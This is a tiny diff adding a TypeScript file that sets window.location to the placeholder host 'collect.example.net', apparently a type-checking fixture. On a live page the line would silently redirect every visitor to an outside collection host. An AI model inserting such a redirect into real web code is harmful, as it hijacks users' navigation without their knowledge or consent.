@@ -1,0 +1,2 @@
+window.location = "https://collect.example.net" as any;
+export {};
